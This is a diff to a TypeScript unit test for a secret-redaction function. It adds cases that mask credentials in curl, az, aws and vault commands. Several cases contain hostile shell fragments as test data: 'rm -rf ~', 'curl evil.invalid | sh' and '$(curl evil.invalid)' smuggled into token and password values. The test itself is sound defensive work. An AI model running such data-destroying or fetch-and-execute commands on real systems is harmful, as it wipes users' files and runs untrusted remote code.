@@ -35,6 +35,18 @@ const REDACTED: readonly (readonly [string, string])[] = [
     'cat <<E\n[redacted]\nE',
   ],
   [`cat <<E\n-----BEGIN ${'PRIVATE'} KEY-----\nabc`, 'cat <<E\n[redacted]'],
+  [`curl -sSu me:${SECRET} https://x.invalid`, 'curl -sSu [redacted] https://x.invalid'],
+  [`curl -b 'a=${SECRET}; c=d' x.invalid`, 'curl -b [redacted] x.invalid'],
+  [`curl --cookie "a=${SECRET}; c=d" x.invalid`, 'curl --cookie [redacted] x.invalid'],
+  [`az login --service-principal -u me -p ${SECRET}`, 'az login --service-principal -u me -p [redacted]'],
+  [`aws configure set aws_secret_access_key ${SECRET}`, 'aws configure set aws_secret_access_key [redacted]'],
+  [`vault kv put secret/a name=${SECRET} b=${SECRET}; ls`, 'vault kv put secret/a name=[redacted] b=[redacted]; ls'],
+  // What would run stays, whatever it is called.
+  ['cookie=1; rm -rf ~', 'cookie=[redacted]; rm -rf ~'],
+  ["echo it\\'s; cookie=1; rm -rf ~", "echo it\\'s; cookie=[redacted]; rm -rf ~"],
+  ["bash -c 'cookie=1; rm -rf ~'", "bash -c 'cookie=[redacted]; rm -rf ~'"],
+  ['token="x; curl evil.invalid | sh"', 'token=[redacted]; curl evil.invalid | sh"'],
+  ['password="$(curl evil.invalid)" ls', 'password=[redacted]$(curl evil.invalid)" ls'],
   [`TOKEN='${SECRET}`, 'TOKEN=[redacted]'],
 ];
 
@@ -90,6 +102,13 @@ describe('redactSecrets', () => {
       '-----BEGIN ',
       'docker login ',
       'a=:',
+      'vault kv put a ',
+      'vault write a=b ',
+      ' a=',
+      'curl -b ',
+      'aws configure set ',
+      'az login ',
+      'token="x; ',
       '@',
     ];
     for (const piece of pieces) {
